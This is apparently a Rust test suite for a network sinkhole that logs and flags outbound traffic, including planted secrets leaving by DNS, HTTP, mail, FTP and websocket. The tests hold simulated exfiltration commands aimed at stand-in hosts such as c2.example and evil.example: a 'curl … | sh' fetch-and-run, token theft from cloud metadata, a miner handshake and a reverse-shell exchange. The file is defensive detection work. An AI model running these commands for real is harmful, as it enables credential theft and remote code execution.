//! Honest clients of many kinds: what each sends is taken whole.

use std::{
    io::{Read as _, Write as _},
    net::{Ipv4Addr, TcpStream, UdpSocket},
};

use base64::{Engine as _, engine::general_purpose::STANDARD};
use hickory_proto::{
    op::{Message, Query},
    rr::{Name, RData, RecordType},
};
use model::TraceDeed;

use super::{Trap, requests, run, spoken, text};

fn question(name: &str, kind: RecordType) -> Vec<u8> {
    let mut message = Message::query();
    message.metadata.recursion_desired = true;
    message.add_query(Query::query(Name::from_ascii(name).expect("a name"), kind));
    message.to_vec().expect("a message")
}

fn addresses(reply: &[u8]) -> Vec<Ipv4Addr> {
    let reply = Message::from_vec(reply).expect("a message");
    let address = |data: &RData| if let RData::A(address) = data { Some(address.0) } else { None };
    reply.answers.iter().filter_map(|record| address(&record.data)).collect()
}

#[test]
fn each_name_has_its_own_address_and_keeps_it() {
    let trap = Trap::new(443);
    let socket = UdpSocket::bind("127.0.0.1:0").expect("a port");
    let ask = |name: &str, kind| {
        socket.send_to(&question(name, kind), ("127.0.0.1", trap.dns)).expect("sent");
        let mut reply = [0; 512];
        let (count, from) = socket.recv_from(&mut reply).expect("answered");
        assert_eq!(from.port(), trap.dns);
        reply[..count].to_vec()
    };
    let one = addresses(&ask("one.example.", RecordType::A));
    let other = addresses(&ask("other.example.", RecordType::A));
    assert_eq!(one, addresses(&ask("ONE.example.", RecordType::A)));
    assert_ne!(one, other);
    assert_eq!(one[0].octets()[..2], [198, 18]);
    assert!(addresses(&ask("one.example.", RecordType::AAAA)).is_empty());
    assert_eq!(trap.sink().name_of(one[0].into()).as_deref(), Some("one.example"));

    let mut stream = TcpStream::connect(("127.0.0.1", trap.dns_tcp)).expect("open");
    let asked = question("other.example.", RecordType::A);
    stream.write_all(&(asked.len() as u16).to_be_bytes()).expect("sent");
    stream.write_all(&asked).expect("sent");
    let mut length = [0; 2];
    stream.read_exact(&mut length).expect("answered");
    let mut reply = vec![0; usize::from(u16::from_be_bytes(length))];
    stream.read_exact(&mut reply).expect("answered");
    assert_eq!(addresses(&reply), other);

    let events = trap.events();
    let asked: Vec<_> = events
        .iter()
        .filter_map(|event| match &event.deed {
            TraceDeed::Dns { name, record } => Some(format!("{record} {name}")),
            _ => None,
        })
        .collect();
    assert_eq!(asked, ["A one.example", "A other.example", "A ONE.example", "AAAA one.example", "A other.example"]);
}

#[test]
fn secrets_in_names_are_recognised() {
    let trap = Trap::new(443);
    let secret = data_encoding::HEXLOWER.encode(trap.tokens.value("npm-token").as_bytes());
    let socket = UdpSocket::bind("127.0.0.1:0").expect("a port");
    for (at, piece) in secret.as_bytes().chunks(30).enumerate() {
        let name = format!("{at}.{}.evil.example.", String::from_utf8_lossy(piece));
        socket.send_to(&question(&name, RecordType::TXT), ("127.0.0.1", trap.dns)).expect("sent");
        socket.recv(&mut [0; 512]).expect("answered");
    }
    let last = trap.events().pop().expect("events");
    assert_eq!(last.tokens, ["npm-token:hex"]);
}

/// Lines of a client's command line, in which `{tcp}`, `{ca}` and so on are filled in.
fn curl(trap: &Trap, arguments: &[&str]) -> Option<String> {
    let to = format!("::127.0.0.1:{}", trap.tcp);
    let ca = trap.certificate();
    let mut all = vec!["-sS", "--max-time", "20", "--connect-to", &to, "--cacert", &ca];
    all.extend(arguments);
    run("curl", &all).map(|output| text(&output))
}

#[test]
fn requests_of_every_kind_are_taken_whole() {
    let trap = Trap::new(443);
    let version = ["-w", " %{http_version}"];
    let Some(plain) = curl(&trap, &["http://api.ipify.org/?format=json"]) else { return };
    assert!(plain.contains("\"ip\":\"203.0.113.77\""), "{plain}");
    assert_eq!(curl(&trap, &["https://checkip.amazonaws.com/"]).expect("curl"), "203.0.113.77\n");
    let posted = curl(&trap, &[version[0], version[1], "--data-binary", "a=1", "https://c2.example/collect?x=1"]);
    assert!(posted.expect("curl").ends_with(" 2"), "HTTP/2 is agreed upon");
    let old = curl(&trap, &[version[0], version[1], "--http1.1", "-T", &trap.certificate(), "https://c2.example/up"]);
    assert!(old.expect("curl").ends_with(" 1.1"));
    let bare = curl(&trap, &[version[0], version[1], "--http2-prior-knowledge", "-d", "b=2", "http://c2.example/h2c"]);
    assert!(bare.expect("curl").ends_with(" 2"));
    let address = curl(&trap, &["-d", "c=3", "https://203.0.113.9/by-address"]).expect("curl");
    assert!(address.contains("ok"), "{address}");
    let proxy = format!("http://127.0.0.1:{}", trap.tcp);
    let tunnel = run(
        "curl",
        &["-sS", "--proxy", &proxy, "--cacert", &trap.certificate(), "-d", "d=4", "https://inner.example/t"],
    );
    assert!(text(&tunnel.expect("curl")).contains("ok"));
    let socks = format!("socks5h://127.0.0.1:{}", trap.tcp);
    let tunnel = run("curl", &["-sS", "--proxy", &socks, "-d", "e=5", "http://socks.example/t"]);
    assert!(text(&tunnel.expect("curl")).contains("ok"));
    let piped = format!("curl -sS --connect-to ::127.0.0.1:{} http://c2.example/x.sh | sh && echo ran", trap.tcp);
    assert_eq!(text(&run("sh", &["-c", &piped]).expect("sh")), "ran\n");

    let events = trap.events();
    let seen: Vec<String> =
        requests(&events).iter().map(|(method, url, _, status)| format!("{method} {url} {status}")).collect();
    assert_eq!(
        seen,
        [
            "GET http://api.ipify.org/?format=json 200",
            "GET https://checkip.amazonaws.com/ 200",
            "POST https://c2.example/collect?x=1 200",
            "PUT https://c2.example/up 201",
            "POST http://c2.example/h2c 200",
            "POST https://203.0.113.9/by-address 200",
            "CONNECT inner.example:443 200",
            "POST https://inner.example/t 200",
            "POST http://socks.example/t 200",
            "GET http://c2.example/x.sh 200",
        ]
    );
    assert_eq!(requests(&events)[2].2, "a=1");
    assert!(requests(&events)[3].2.starts_with("-----BEGIN CERTIFICATE"));
    let last = events.last().expect("events");
    assert!(matches!(last.deed, TraceDeed::Http { answered: Some(_), .. }), "downloads are told by digest");
}

#[test]
fn secrets_are_recognised_in_bodies_headers_and_addresses() {
    let trap = Trap::new(443);
    let secret = trap.tokens.value("npm-token").to_owned();
    let (body, header) = (STANDARD.encode(&secret), format!("X-Data: {}", STANDARD.encode(format!("k={secret}"))));
    if curl(&trap, &["-d", &body, "https://c2.example/"]).is_none() {
        return;
    }
    curl(&trap, &["-H", &header, "https://c2.example/"]);
    curl(&trap, &[&format!("https://c2.example/?t={secret}")]);
    curl(&trap, &["-d", &secret[..20], "https://c3.example/"]);
    curl(&trap, &["-d", &secret[20..], "https://c3.example/"]);
    curl(&trap, &["https://c2.example/"]);
    let events = trap.events();
    let tokens: Vec<String> = events.iter().map(|event| event.tokens.join(" ")).collect();
    assert_eq!(tokens, ["npm-token:base64", "npm-token:base64", "npm-token:raw", "", "npm-token:raw", ""]);
}

#[test]
fn the_metadata_of_clouds_hands_out_planted_secrets() {
    let trap = Trap::new(80);
    let Some(session) = curl(&trap, &["-X", "PUT", "http://169.254.169.254/latest/api/token"]) else { return };
    assert_eq!(session, trap.tokens.value("metadata-session"));
    let role = curl(&trap, &["http://169.254.169.254/latest/meta-data/iam/security-credentials/"]).expect("curl");
    let path = format!("http://169.254.169.254/latest/meta-data/iam/security-credentials/{role}");
    let credentials = curl(&trap, &[&path]).expect("curl");
    assert!(credentials.contains(trap.tokens.value("aws-role-secret")), "{credentials}");
    assert!(!credentials.contains("{aws"), "{credentials}");
}

#[test]
fn names_are_resolved_inside_of_https() {
    let trap = Trap::new(443);
    let doh = format!("https://resolver.example:{}/dns-query", trap.tcp);
    let resolve = format!("resolver.example:{}:127.0.0.1", trap.tcp);
    let arguments = ["-sS", "--max-time", "5", "--connect-timeout", "2", "--doh-insecure", "--resolve", &resolve];
    // The address that it resolves to is not here, so that only the question arrives.
    let asking = [&arguments[..], &["--doh-url", &doh, "http://hidden.example/"]].concat();
    if run("curl", &asking).is_none() {
        return;
    }
    let json =
        curl(&trap, &["-H", "Accept: application/dns-json", "https://r.example/dns-query?name=other.example&type=A"]);
    assert!(json.expect("curl").contains("198.18.0."));
    let events = trap.events();
    let names: Vec<_> = events
        .iter()
        .filter_map(|event| match &event.deed {
            TraceDeed::Dns { name, .. } => Some(name.as_str()),
            _ => None,
        })
        .collect();
    assert!(names.contains(&"hidden.example") && names.contains(&"other.example"), "{events:#?}");
}

#[test]
fn node_and_python_are_content() {
    let trap = Trap::new(443);
    let (port, ca) = (trap.tcp.to_string(), trap.certificate());
    let script = "
        const https = require('https'), fs = require('fs');
        const ca = fs.readFileSync(process.argv[2]);
        const request = https.request({host: '127.0.0.1', port: process.argv[1], servername: 'node.example', ca,
            method: 'POST', path: '/n', headers: {host: 'node.example', 'content-type': 'application/json'}},
            (answer) => answer.resume().on('end', () => console.log(answer.statusCode)));
        request.end(JSON.stringify({from: 'node'}));";
    if let Some(output) = run("node", &["-e", script, &port, &ca]) {
        assert_eq!(text(&output), "200\n");
    }
    let script = "
import http.client, ssl, sys
context = ssl.create_default_context(cafile=sys.argv[2])
context.check_hostname = False
connection = http.client.HTTPSConnection('127.0.0.1', int(sys.argv[1]), context=context)
connection.request('POST', '/p', iter([b'from ', b'python']), {'Host': 'python.example', 'Expect': '100-continue'})
print(connection.getresponse().status)";
    if let Some(output) = run("python3", &["-c", script, &port, &ca]) {
        assert_eq!(text(&output), "200\n");
    }
    let bodies: Vec<_> = requests(&trap.events()).into_iter().map(|(_, url, body, _)| (url, body)).collect();
    for wanted in [("https://node.example/n", "{\"from\":\"node\"}"), ("https://python.example/p", "from python")] {
        let program = if wanted.0.contains("node") { "node" } else { "python3" };
        if run(program, &["--version"]).is_some() {
            assert!(bodies.iter().any(|(url, body)| (url.as_str(), body.as_str()) == wanted), "{bodies:?}");
        }
    }
}

#[test]
fn mail_is_taken_with_and_without_tls() {
    let trap = Trap::new(587);
    let (port, ca) = (trap.tcp.to_string(), trap.certificate());
    let script = "
import smtplib, ssl, sys
context = ssl.create_default_context(cafile=sys.argv[2])
context.check_hostname = False
server = smtplib.SMTP('127.0.0.1', int(sys.argv[1]), timeout=20)
if sys.argv[3] == 'tls':
    server.starttls(context=context)
server.login('annika', 'password-of-mail')
server.sendmail('a@a.example', ['b@b.example'], 'Subject: x\\n\\nstolen ' + sys.argv[3])
server.quit()";
    for way in ["tls", "plain"] {
        let Some(output) = run("python3", &["-c", script, &port, &ca, way]) else { return };
        assert_eq!(text(&output), "", "{way}");
    }
    let said = spoken(&trap.events());
    for way in ["stolen tls", "stolen plain"] {
        assert!(said.iter().any(|(protocol, head, _)| protocol == "smtp" && head.contains(way)), "{said:?}");
    }
}

#[test]
fn files_are_transferred() {
    let trap = Trap::new(21);
    let script = "
import ftplib, io, sys
ftp = ftplib.FTP()
ftp.connect('127.0.0.1', int(sys.argv[1]), timeout=20)
print(ftp.login('annika', 'secret'))
print(ftp.quit())";
    let Some(output) = run("python3", &["-c", script, &trap.tcp.to_string()]) else { return };
    assert_eq!(text(&output), "230 Logged in\n221 Bye\n");
    assert_eq!(spoken(&trap.events())[0].1, "USER annika\r\nPASS secret\r\nQUIT\r\n");
}

#[test]
fn sockets_of_the_web_are_unmasked() {
    let trap = Trap::new(80);
    let mut stream = TcpStream::connect(("127.0.0.1", trap.tcp)).expect("open");
    let secret = trap.tokens.value("github-token").to_owned();
    let request = "GET /live HTTP/1.1\r\nHost: c2.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
        Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
    stream.write_all(request.as_bytes()).expect("sent");
    let mut answer = Vec::new();
    while !answer.ends_with(b"\r\n\r\n") {
        let mut byte = [0];
        stream.read_exact(&mut byte).expect("answered");
        answer.push(byte[0]);
    }
    let answer = String::from_utf8(answer).expect("text");
    assert!(answer.starts_with("HTTP/1.1 101") && answer.contains("s3pPLMBiTxaQ9kYGzzhZRbK+xOo="), "{answer}");
    let mask = [1, 2, 3, 4];
    let masked = secret.bytes().enumerate().map(|(at, byte)| byte ^ mask[at % 4]);
    let frame: Vec<u8> = [0x81, 0x80 | secret.len() as u8].into_iter().chain(mask).chain(masked).collect();
    stream.write_all(&frame).expect("sent");
    let mut reply = [0; 13];
    stream.read_exact(&mut reply).expect("answered");
    assert_eq!(&reply[2..], b"{\"ok\":true}");
    drop(stream);
    let event = trap.wait_for(|seen| {
        matches!(&seen.event.deed, TraceDeed::Raw { protocol, .. } if protocol == "websocket")
            .then(|| seen.event.clone())
    });
    assert_eq!(event.tokens, ["github-token:raw"]);
}

#[test]
fn unknown_protocols_and_datagrams_are_taken() {
    let trap = Trap::new(4444);
    let mut stream = TcpStream::connect(("127.0.0.1", trap.tcp)).expect("open");
    stream.write_all(b"hello over there").expect("sent");
    let mut answer = [0; 3];
    stream.read_exact(&mut answer).expect("answered");
    assert_eq!(&answer, b"ok\n");
    let mut pool = TcpStream::connect(("127.0.0.1", trap.tcp)).expect("open");
    pool.write_all(b"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\n").expect("sent");
    let mut answer = [0; 20];
    pool.read_exact(&mut answer).expect("answered");
    drop((stream, pool));
    let socket = UdpSocket::bind("127.0.0.1:0").expect("a port");
    socket.send_to(b"datagram", ("127.0.0.1", trap.udp)).expect("sent");
    let (count, from) = socket.recv_from(&mut [0; 16]).expect("answered");
    assert_eq!((count, from.port()), (3, trap.udp));
    let mut said = spoken(&trap.events());
    said.sort();
    let protocols: Vec<_> =
        said.iter().map(|(protocol, head, waited)| (protocol.as_str(), &head[..5], *waited)).collect();
    assert_eq!(protocols, [("stratum", "{\"id\"", false), ("tcp", "hello", false), ("udp", "datag", false)]);
}

#[test]
fn a_shell_that_waits_for_orders_gives_itself_away() {
    let trap = Trap::new(4444);
    let mut stream = TcpStream::connect(("127.0.0.1", trap.tcp)).expect("open");
    let mut order = [0; 3];
    stream.read_exact(&mut order).expect("an order");
    assert_eq!(&order, b"id\n");
    stream.write_all(b"uid=1000(annika)").expect("sent");
    drop(stream);
    let event = trap.wait_for(|seen| Some(seen.event.clone()));
    let TraceDeed::Raw { waited, head, address, .. } = event.deed else { panic!("{event:?}") };
    assert!(waited);
    assert_eq!((head.as_str(), address.as_str()), ("uid=1000(annika)", "203.0.113.9:4444"));
}
